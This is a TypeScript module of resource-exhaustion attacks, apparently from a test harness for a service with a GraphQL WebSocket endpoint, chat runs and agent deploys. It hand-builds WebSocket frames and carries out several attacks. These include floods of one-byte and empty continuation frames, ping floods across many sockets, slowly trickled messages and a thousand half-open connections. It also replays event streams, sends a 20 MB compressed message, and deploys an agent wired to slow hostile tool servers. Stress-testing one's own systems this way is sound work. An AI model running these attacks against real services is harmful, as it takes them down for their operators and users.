import { once } from 'node:events';
import { WebSocket } from 'ws';
import type { AttackContext, Attacks } from '../attack.ts';
import { botPath, json } from '../attack.ts';

/** A frame of a WebSocket from a client (RFC 6455, section 5.2), masked with zeros. */
function frame(opcode: number, payload: string, isLast: boolean): Buffer {
  const body = Buffer.from(payload);
  return Buffer.concat([
    Buffer.from([(isLast ? 0x80 : 0) | opcode, 0x80 | body.length, 0, 0, 0, 0]),
    body,
  ]);
}

const TEXT = 1;
const CONTINUATION = 0;
const PING = 9;

const UPGRADE =
  'GET /graphql/ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n' +
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n';

/** Opens a WebSocket by hand, acknowledges it with a key, and writes frames. */
async function writeFrames({ connect, account, pause }: AttackContext, frames: Buffer) {
  const socket = connect();
  socket.write(UPGRADE);
  await once(socket, 'data');
  const init = JSON.stringify({
    type: 'connection_init',
    payload: { Authorization: `Bearer ${account.apiKey}` },
  });
  socket.write(frame(TEXT, init.slice(0, 100), false));
  socket.write(frame(CONTINUATION, init.slice(100), true));
  await once(socket, 'data');
  socket.resume().write(frames);
  await Promise.race([once(socket, 'close'), pause(4_000)]);
}

/** Feeds that are read again and again, and messages in many pieces. */
export const feedAttacks: Attacks = {
  'messages in frames of one byte': (context) =>
    writeFrames(
      context,
      Buffer.concat([
        frame(TEXT, '{', false),
        ...Array.from({ length: 500_000 }, () => frame(CONTINUATION, ' ', false)),
      ]),
    ),
  'empty frames': (context) =>
    writeFrames(
      context,
      Buffer.concat([
        frame(TEXT, '{', false),
        ...Array.from({ length: 500_000 }, () => frame(CONTINUATION, '', false)),
      ]),
    ),
  'a flood of pings': (context) =>
    writeFrames(
      context,
      Buffer.concat(Array.from({ length: 300_000 }, () => frame(PING, 'x', true))),
    ),
  'a flood of JSON pings over many sockets': (context) =>
    Promise.all(
      Array.from({ length: 25 }, () =>
        writeFrames(
          context,
          Buffer.concat(Array.from({ length: 1_000 }, () => frame(TEXT, '{"type":"ping"}', true))),
        ),
      ),
    ),
  'a message that trickles': async ({ connect, random, pause, signal }) => {
    const socket = connect();
    socket.write(UPGRADE);
    await once(socket, 'data');
    socket.resume();
    const message = frame(TEXT, `{"type":"ping","payload":{"a":"${'x'.repeat(80)}"}}`, true);
    const size = random.pick([1, 7, 50]);
    for (let at = 0; at < message.length && !socket.destroyed && !signal.aborted; at += size) {
      socket.write(message.subarray(at, at + size));
      await pause(random.int(10, 500));
    }
  },
  'a thousand WebSockets of one address': async ({ connect, pause, random }) => {
    const begin = frame(TEXT, '{"type":"connection_init"', false);
    for (let count = 0; count < 1_000; count += 1) {
      connect()
        .resume()
        .write(UPGRADE + begin.toString('latin1'), 'latin1');
      if (count % 50 === 0) await pause(1);
    }
    await pause(random.int(500, 4_000));
  },
  'runs that are replayed in a loop': async ({ account, sendWithKey, signal }) => {
    const { text } = await sendWithKey({
      method: 'POST',
      path: botPath(account.modelBot, 'chat'),
      headers: json,
      body: { message: 'tiny deltas' },
    });
    const runId = /run_\w+/.exec(text)?.[0];
    for (let count = 0; runId && count < 30 && !signal.aborted; count += 1) {
      await sendWithKey({
        path: botPath(account.modelBot, `runs/${runId}/events`),
        headers: { accept: 'text/event-stream', 'last-event-id': '0' },
      });
    }
  },
  'compressed WebSockets': async ({ target, signal }) => {
    const socket = new WebSocket(
      `${target.url.replace('http', 'ws')}/graphql/ws`,
      'graphql-transport-ws',
      { signal, perMessageDeflate: { threshold: 0 } },
    );
    socket.on('open', () => socket.send(' '.repeat(20_000_000)));
    socket.on('error', () => {});
    await once(socket, 'close');
  },
  'many slow tool servers of a deploy': ({ account, target, sendWithKey }) => {
    const groups = Array.from(
      { length: 16 },
      (_, index) => `tools far${index} mcp "${target.hostileUrl}/mcp?${index}"`,
    );
    return sendWithKey({
      method: 'POST',
      path: botPath(account.mcpBot, 'deploy'),
      headers: json,
      body: {
        agentlang: `agentlang 5\nagent "Slow" {\n  prompt "x"\n${groups.join('\n')}\n}\n`,
        environment: 'staging',
      },
    });
  },
};
